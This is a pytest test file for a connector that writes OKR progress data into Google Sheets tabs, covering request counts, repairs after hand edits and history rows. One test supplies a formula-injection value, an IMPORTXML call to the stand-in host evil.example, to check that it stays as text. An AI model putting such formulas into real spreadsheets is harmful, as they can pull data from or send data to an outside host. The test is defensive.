"""Our own tabs of a Google spreadsheet: what stands there, in how many requests, and what becomes of what people do to it."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator

from connectors.contract import DeliveryState
from connectors.delivering.google_sheets import writing
from connectors.sandbox.answer import Answer, Request
from connectors.sandbox.google_sheets import PREFIX
from connectors.sandbox.google_sheets_book import Formula, SheetTab
from connectors.trackers.google_sheets import tracker
from connectors.whole_run import RunAnswer, WholeRunTracker
from okr_mappings.snapshot import ProgressDocument, Snapshot
from tests.connectors.trackers.documents import COMPUTED_AT, brightwater, deliveries, document, snapshot
from tests.connectors.trackers.harness_google_sheets import GoogleSheetsHarness, lines, opened

SENT, RETRIABLE = DeliveryState.SENT, DeliveryState.RETRIABLE
NOW = datetime(2026, 11, 22, 5, 1, tzinfo=UTC)


@pytest.fixture
def sheet(tmp_path: Path) -> Iterator[GoogleSheetsHarness]:
    with opened(tmp_path) as harness:
        yield harness


def send(sheet: GoogleSheetsHarness, *documents: ProgressDocument, owed: bool = True, **settings: str) -> RunAnswer:
    made = tracker(sheet.settings(**settings), Path())
    assert isinstance(made, WholeRunTracker)
    sheet.sandbox.calls.clear()
    shown = [item for document in documents for item in document.key_results] if owed else []
    return made.send_run(documents, deliveries(*shown), NOW)


def tab(sheet: GoogleSheetsHarness, title: str = "okr_data") -> SheetTab:
    return sheet.sandbox.sheets.book.tab(title)


def calls(sheet: GoogleSheetsHarness) -> list[str]:
    """What was asked for, without the address of the spreadsheet."""
    return [f"{c.method} {c.path.partition('0000000')[2].lstrip('0')}" for c in sheet.sandbox.calls.to(PREFIX)]


def states(answer: RunAnswer) -> set[DeliveryState]:
    return {result.state for result in answer.results}


def next_day(shown: ProgressDocument) -> ProgressDocument:
    """The same numbers a day later; each snapshot is another one."""
    return replace(
        shown,
        as_of=shown.as_of + timedelta(days=1),
        key_results=tuple(
            replace(item, snapshot_id=f"{item.snapshot_id}-next", as_of=item.as_of + timedelta(days=1))
            for item in shown.key_results
        ),
    )


def test_the_first_run_makes_both_tabs_in_four_requests(sheet: GoogleSheetsHarness) -> None:
    assert states(send(sheet, brightwater())) == {SENT}
    assert calls(sheet) == ["GET ", "POST :batchUpdate", "POST /values:batchUpdate", "GET /values:batchGet"]
    assert [each.title for each in sheet.sandbox.sheets.book.tabs] == ["Sheet1", "okr_data", "okr_history"]
    data = tab(sheet)
    assert data.frozen_rows == 1
    assert [each.editors for each in data.protections] == [None]
    first = lines(data)[0]
    assert (first["key_result_id"], first["cycle_id"], first["value"], first["status"]) == (
        *("more_leads", "2026-Q4", 196.0),
        "on_track",
    )
    # 21 November 2026 is day 46347: 1 January 2026 is 46023, and 324 days follow it
    assert (first["as_of"], first["data_through_utc"]) == (46347.0, pytest.approx(46347 + 22.5 / 24, abs=1e-6))


def test_a_run_without_news_makes_two_requests_and_changes_nothing(sheet: GoogleSheetsHarness) -> None:
    send(sheet, brightwater())
    revision = sheet.sandbox.sheets.book.revision
    assert states(send(sheet, brightwater())) == {SENT}
    assert calls(sheet) == ["GET ", "GET /values:batchGet"]
    assert sheet.sandbox.sheets.book.revision == revision


def test_a_run_with_news_makes_four_requests_and_writes_only_what_differs(sheet: GoogleSheetsHarness) -> None:
    send(sheet, brightwater())
    data = tab(sheet)
    data.formats.clear()
    before = [dict(row) for row in data.rows]
    more = [
        replace(item, value=200.0) if item.key_result_id == "more_leads" else item for item in brightwater().key_results
    ]
    assert states(send(sheet, replace(brightwater(), key_results=tuple(more)))) == {SENT}
    assert calls(sheet) == ["GET ", "GET /values:batchGet", "POST /values:batchUpdate", "GET /values:batchGet"]
    assert [place for place, row in enumerate(data.rows) if row != before[place]] == [1]
    assert len(lines(tab(sheet, "okr_history"))) == 9  # the same snapshot ids: what was shown stays


def test_two_running_cycles_share_the_four_requests(sheet: GoogleSheetsHarness) -> None:
    year = document(snapshot("arr", cycle_id="2026"), cycle_id="2026")
    assert states(send(sheet, year, brightwater())) == {SENT}
    assert len(calls(sheet)) == 4
    assert len(sheet.state()) == 10


def test_history_grows_by_snapshot_and_is_never_doubled(sheet: GoogleSheetsHarness) -> None:
    today, tomorrow = brightwater(), next_day(brightwater())
    for shown in (today, today, tomorrow, today, tomorrow):
        send(sheet, shown)
    rows = lines(tab(sheet, "okr_history"))
    assert len(rows) == 18
    assert len({(row["snapshot_id"], row["key_result_id"]) for row in rows}) == 18


def test_no_history_is_kept_when_nobody_wants_one(sheet: GoogleSheetsHarness) -> None:
    send(sheet, brightwater(), history="false")
    assert [each.title for each in sheet.sandbox.sheets.book.tabs] == ["Sheet1", "okr_data"]


def test_text_that_looks_like_a_formula_stays_text(sheet: GoogleSheetsHarness) -> None:
    titles = ['=IMPORTXML("http://evil.example","//a")', "+1", "-1+1", "@now", "'quoted", "TRUE", "007", "12%"]
    send(sheet, document(*(snapshot(f"kr_{n}", title=title) for n, title in enumerate(titles))))
    assert [row["key_result"] for row in lines(tab(sheet))] == titles
    assert not any(isinstance(value, Formula) for row in tab(sheet).rows for value in row.values())


def test_a_text_that_a_sheet_gives_back_a_little_otherwise_is_no_drift(
    sheet: GoogleSheetsHarness, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Lost on the way: an apostrophe in front, blanks around, control characters; decomposed letters come back composed."""
    words = ["'so called' best", "  padded ", "bell\x07", "Café", "a\r\nb"]
    shown = document(*(snapshot(f"kr_{n}", title=title) for n, title in enumerate(words)))
    put = SheetTab.put

    def careless(tab: SheetTab, row: int, column: int, content: object) -> None:
        put(
            tab,
            row,
            column,
            unicodedata.normalize("NFC", content).strip().lstrip("'") if isinstance(content, str) else content,
        )

    monkeypatch.setattr(SheetTab, "put", careless)
    assert states(send(sheet, shown)) == {SENT}
    assert send(sheet, shown, owed=False).remarks == ()
    assert calls(sheet) == ["GET ", "GET /values:batchGet"]
    assert [row["key_result"] for row in lines(tab(sheet))] == ["so called' best", "padded", "bell", "Café", "a\nb"]


def test_a_text_longer_than_a_cell_is_cut(sheet: GoogleSheetsHarness) -> None:
    assert states(send(sheet, document(snapshot(reason="x" * 60_000)))) == {SENT}
    assert len(str(lines(tab(sheet))[0]["reason"])) == 50_000


def test_a_cell_changed_by_hand_is_put_right_and_told(sheet: GoogleSheetsHarness) -> None:
    send(sheet, brightwater())
    tab(sheet).type_in(1, [[999.0]], first_column=6)
    answer = send(sheet, brightwater(), owed=False)
    assert answer.remarks == (
        "google_sheets: 'okr_data' was changed by hand: G2 (value): '999' over '196'. It shows our values again.",
    )
    assert lines(tab(sheet))[0]["value"] == 196.0
    assert send(sheet, brightwater(), owed=False).remarks == ()


def test_a_cell_changed_by_hand_is_told_by_its_row_when_the_number_moved_on(sheet: GoogleSheetsHarness) -> None:
    send(sheet, brightwater())
    tab(sheet).type_in(3, [[0.5]], first_column=6)
    assert (
        send(sheet, next_day(brightwater()))
        .remarks[0]
        .startswith("google_sheets: 'okr_data' was changed by hand: row 4 (engaged_rate).")
    )


def test_rows_that_people_take_away_add_or_copy_are_put_right_and_told(sheet: GoogleSheetsHarness) -> None:
    send(sheet, brightwater())
    data = tab(sheet)
    data.delete_row(1)
    data.rows[20] = dict(data.rows[1])
    data.type_in(30, [[None, None, "remember the milk"]])
    (remark,) = send(sheet, brightwater(), owed=False).remarks
    assert "a second row of organic_traffic" in remark
    assert "row 31 was a row without a key result: 'remember the milk'" in remark
    assert "the row of more_leads was gone" in remark
    assert sorted(str(row["key_result_id"]) for row in lines(data)) == sorted(
        item.key_result_id for item in brightwater().key_results
    )


def test_people_may_sort_the_tab_and_add_columns(sheet: GoogleSheetsHarness) -> None:
    send(sheet, brightwater())
    data = tab(sheet)
    data.sort(6, descending=True)
    data.insert_column(0)
    data.type_in(0, [["mine"], *([f"note {n}"] for n in range(9))])
    order = [row["key_result_id"] for row in lines(data)]
    answer = send(sheet, next_day(brightwater()))
    assert (states(answer), answer.remarks) == ({SENT}, ())
    assert [row["key_result_id"] for row in lines(data)] == order
    assert [row["mine"] for row in lines(data)] == [f"note {n}" for n in range(9)]
    assert {row["as_of"] for row in lines(data)} == {46348.0}


def test_a_column_that_is_missing_comes_back_at_the_right(sheet: GoogleSheetsHarness) -> None:
    """Deleted by somebody, or new in this version: no other heading could be the same one renamed."""
    send(sheet, brightwater())
    data = tab(sheet)
    for row in data.rows:
        row.pop(23, None)  # the last two, row_check and snapshot_id
        row.pop(22, None)
    answer = send(sheet, brightwater(), owed=False)
    assert answer.remarks == ()
    assert (data.rows[0][22], data.rows[0][23]) == ("snapshot_id", "row_check")
    assert {row["snapshot_id"] for row in lines(data)} == {item.snapshot_id for item in brightwater().key_results}
    del data.rows[0][10]
    assert "no column headed 'target_high'" in str(send(sheet, brightwater(), owed=False).remarks)


def test_a_deleted_data_tab_is_made_again_and_told(sheet: GoogleSheetsHarness) -> None:
    send(sheet, brightwater())
    sheet.sandbox.sheets.book.delete_tab("okr_data")
    answer = send(sheet, brightwater())
    assert states(answer) == {SENT}
    assert "'okr_data' was not there any more" in answer.remarks[0]
    assert len(sheet.state()) == 9
    assert len(lines(tab(sheet, "okr_history"))) == 9


def test_a_key_result_that_left_goes_and_an_ended_cycle_stays_below(sheet: GoogleSheetsHarness) -> None:
    send(sheet, brightwater())
    kept = brightwater().key_results[1:]
    send(sheet, replace(brightwater(), key_results=kept))
    assert "more_leads" not in {key for _, key in sheet.state()}
    new = document(snapshot("more_leads", cycle_id="2027-Q1", as_of=date(2027, 1, 5)), cycle_id="2027-Q1")
    send(sheet, new)
    assert [row["cycle_id"] for row in lines(tab(sheet))] == ["2027-Q1", *["2026-Q4"] * 8]


def many(count: int, prefix: str = "") -> ProgressDocument:
    """Long texts of each row's own, so that nothing is small by chance."""
    return document(
        *(
            snapshot(
                f"{prefix}kr_{number:05}",
                title=f"Key result {number} with a title as long as people write them, {number}",
                team_id=f"team_{number % 50}",
                value=float(number),
                snapshot_id=f"{number:032x}",
            )
            for number in range(count)
        )
    )


@pytest.mark.parametrize("count", [1, 10_000])
def test_four_requests_whatever_the_number(sheet: GoogleSheetsHarness, count: int) -> None:
    first = many(count)
    for shown in (first, next_day(first)):
        answer = send(sheet, shown)
        assert states(answer) == {SENT}
        assert answer.remarks == ()
        assert len(calls(sheet)) <= 4
    assert len(sheet.state()) == count
    assert len(lines(tab(sheet, "okr_history"))) == 2 * count


def test_what_four_requests_cannot_hold_follows_at_the_next_try(
    sheet: GoogleSheetsHarness, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With 30 kB a request instead of 8 MB: the first run writes about half of 300 rows, and no history yet, so nothing is done."""
    monkeypatch.setattr(writing, "MOST_BYTES", 30_000)
    monkeypatch.setattr(writing, "ADVISED_BYTES", 20_000)
    shown = many(300)
    first = send(sheet, shown)
    assert states(first) == {RETRIABLE}
    assert len(calls(sheet)) == 4
    assert 50 < len(sheet.state()) < 250
    runs = 1
    while states(send(sheet, shown)) != {SENT}:
        runs += 1
        assert len(calls(sheet)) <= 4
        assert runs < 6
    assert len(sheet.state()) == 300
    assert len(lines(tab(sheet, "okr_history"))) == 300


def test_late_numbers_of_a_cycle_that_is_over_arrive_too(sheet: GoogleSheetsHarness) -> None:
    last = snapshot("old_leads", cycle_id="2026-Q3", as_of=date(2026, 9, 30), computed_at=COMPUTED_AT)
    made = tracker(sheet.settings(), Path())
    shown = brightwater()
    owed: list[Snapshot] = [last, *shown.key_results]
    assert {result.state for result in made.send(shown, deliveries(*owed), NOW)} == {SENT}
    assert ("2026-Q3", "old_leads") in sheet.state()


def test_every_body_is_one_that_google_documents(sheet: GoogleSheetsHarness, monkeypatch: pytest.MonkeyPatch) -> None:
    """Judged by the schemas of Google's own discovery document, in which nothing unknown is allowed."""
    documented = json.loads(Path(__file__).with_name("sheets_v4_requests.json").read_text(encoding="utf-8"))
    api, judged = sheet.sandbox.sheets, []
    as_ever = api.answer

    def answer(request: Request) -> Answer:
        if request.method == "POST":
            name = "BatchUpdateValuesRequest" if "/values" in request.path else "BatchUpdateSpreadsheetRequest"
            Draft202012Validator({**documented, "$ref": f"#/$defs/{name}"}).validate(json.loads(request.body))
            judged.append(name)
        return as_ever(request)

    monkeypatch.setattr(api, "answer", answer)
    api.book.add_tab("Growth", 20, 6).type_in(0, [["KR ID", "Current", "Progress", "Status", "As of"], ["more_leads"]])
    assert states(send(sheet, many(20), tabs="Growth")) == {SENT}
    assert states(send(sheet, many(300), tabs="Growth")) == {SENT}  # longer tabs
    assert judged == ["BatchUpdateSpreadsheetRequest", "BatchUpdateValuesRequest"] * 2
